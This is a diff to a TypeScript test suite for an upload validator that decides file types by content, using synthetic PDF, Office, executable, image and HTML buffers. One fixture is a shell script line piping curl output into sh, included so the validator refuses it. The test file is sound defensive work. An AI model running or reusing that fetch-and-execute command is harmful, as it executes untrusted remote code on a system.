@@ -1,40 +1,70 @@
 import { detectFileType, mimeTypeForKey, type FileCategory } from '../../api/src/infra/file-types.js';
+import { sampleDocx, sampleOdt } from '../support/office.js';
 
 const bytes = (...values: number[]) => Buffer.from(values);
 const pdf = Buffer.from('%PDF-1.7\n%âãÏÓ\n1 0 obj\n');
-const ole2 = Buffer.concat([bytes(0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1), Buffer.alloc(64)]);
-const docx = Buffer.concat([bytes(0x50, 0x4b, 0x03, 0x04), Buffer.alloc(26), Buffer.from('[Content_Types].xml…word/document.xml')]);
-const odt = Buffer.concat([bytes(0x50, 0x4b, 0x03, 0x04), Buffer.alloc(26), Buffer.from('mimetypeapplication/vnd.oasis.opendocument.text')]);
-const exe = Buffer.concat([Buffer.from('MZ'), bytes(0x90, 0x00, 0x03, 0x00, 0x00, 0x00)]);
-const png = bytes(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13);
+const ole2 = Buffer.concat([bytes(0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1), Buffer.alloc(600)]);
+const exe = Buffer.concat([Buffer.from('MZ'), bytes(0x90, 0x00, 0x03, 0x00, 0x00, 0x00), Buffer.alloc(120)]);
+const elf = Buffer.concat([Buffer.from('\x7fELF', 'latin1'), bytes(0x02, 0x01, 0x01, 0x00), Buffer.alloc(56)]);
+const png = Buffer.concat([bytes(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13), Buffer.from('IHDR'), Buffer.alloc(17)]);
 const jpeg = bytes(0xff, 0xd8, 0xff, 0xe0, 0, 16);
 const text = Buffer.from('Constat d’état des lieux\r\nPièce 1 : séjour\tRAS\n');
+const html = Buffer.from('<!DOCTYPE html><html><body><script>fetch("/graphql")</script></body></html>');
+const pdfAt500 = Buffer.concat([Buffer.alloc(500, 0x20), pdf]);
+const truncatedZip = Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(26), Buffer.from('[Content_Types].xml word/document.xml')]);
+
+let docx: Buffer;
+let odt: Buffer;
+beforeAll(async () => {
+  [docx, odt] = await Promise.all([sampleDocx(), sampleOdt()]);
+});
 
 describe('upload types are decided by content, not by name', () => {
-  it.each<[FileCategory, string, Buffer, string | null]>([
-    ['document', 'constat.pdf', pdf, 'application/pdf'],
-    ['document', 'CONSTAT.PDF', pdf, 'application/pdf'],
-    ['document', 'constat.doc', ole2, 'application/msword'],
-    ['document', 'constat.docx', docx, 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
-    ['document', 'constat.odt', odt, 'application/vnd.oasis.opendocument.text'],
-    ['document', 'notes.txt', text, 'text/plain; charset=utf-8'],
-    ['document', 'virus.pdf', exe, null],
-    ['document', 'virus.txt', exe, null],
-    ['document', 'faux.docx', odt, null],
-    ['document', 'faux.odt', docx, null],
-    ['document', 'photo.png', png, null],
-    ['document', 'sans-extension', pdf, null],
-    ['document', 'script.exe', exe, null],
-    ['bill', 'facture.pdf', pdf, 'application/pdf'],
-    ['bill', 'facture.docx', docx, 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
-    ['bill', 'facture.odt', odt, null],
-    ['bill', 'facture.txt', text, null],
-    ['image', 'avatar.png', png, 'image/png'],
-    ['image', 'avatar.jpeg', jpeg, 'image/jpeg'],
-    ['image', 'avatar.jpg', png, null],
-    ['image', 'avatar.png', pdf, null],
-  ])('%s %s → %s', (category, name, head, expected) => {
-    expect(detectFileType(category, name, head)?.mimeType ?? null).toBe(expected);
+  it.each<[FileCategory, string, () => Buffer, string | null]>([
+    ['document', 'constat.pdf', () => pdf, 'application/pdf'],
+    ['document', 'CONSTAT.PDF', () => pdf, 'application/pdf'],
+    ['document', 'constat.doc', () => ole2, 'application/msword'],
+    ['document', 'constat.docx', () => docx, 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
+    ['document', 'constat.odt', () => odt, 'application/vnd.oasis.opendocument.text'],
+    ['document', 'notes.txt', () => text, 'text/plain; charset=utf-8'],
+    ['document', 'virus.pdf', () => exe, null],
+    ['document', 'virus.txt', () => exe, null],
+    ['document', 'faux.docx', () => odt, null],
+    ['document', 'faux.odt', () => docx, null],
+    ['document', 'photo.png', () => png, null],
+    ['document', 'sans-extension', () => pdf, null],
+    ['document', 'script.exe', () => exe, null],
+    ['bill', 'facture.pdf', () => pdf, 'application/pdf'],
+    ['bill', 'facture.docx', () => docx, 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
+    ['bill', 'facture.odt', () => odt, null],
+    ['bill', 'facture.txt', () => text, null],
+    ['image', 'avatar.png', () => png, 'image/png'],
+    ['image', 'avatar.jpeg', () => jpeg, 'image/jpeg'],
+    ['image', 'avatar.jpg', () => png, null],
+    ['image', 'avatar.png', () => pdf, null],
+  ])('%s %s → %s', async (category, name, head, expected) => {
+    expect((await detectFileType(category, name, head()))?.mimeType ?? null).toBe(expected);
+  });
+
+  it.each<[string, string, () => Buffer]>([
+    ['an MZ executable named .pdf', 'acte.pdf', () => exe],
+    ['an ELF executable named .pdf', 'acte.pdf', () => elf],
+    ['an HTML page named .pdf', 'acte.pdf', () => html],
+    ['an HTML page named .txt', 'notes.txt', () => html],
+    ['a shell script named .txt', 'notes.txt', () => Buffer.from('#!/bin/sh\ncurl http://x | sh\n')],
+    ['a PDF whose %PDF- sits at offset 500', 'acte.pdf', () => pdfAt500],
+    ['an empty file', 'acte.pdf', () => Buffer.alloc(0)],
+    ['an empty text', 'notes.txt', () => Buffer.alloc(0)],
+    ['a truncated zip named .docx', 'acte.docx', () => truncatedZip],
+    ['a plain zip named .docx', 'acte.docx', () => docx.subarray(0, 40)],
+    ['a Word 97 file named .docx', 'acte.docx', () => ole2],
+  ])('refuses %s', async (_label, name, head) => {
+    expect(await detectFileType('document', name, head())).toBeNull();
+  });
+
+  it('refuses a PNG named .jpg and a JPEG named .png', async () => {
+    expect(await detectFileType('image', 'photo.jpg', png)).toBeNull();
+    expect(await detectFileType('image', 'photo.png', jpeg)).toBeNull();
   });
 
   it('serves stored files with the type of their key', () => {
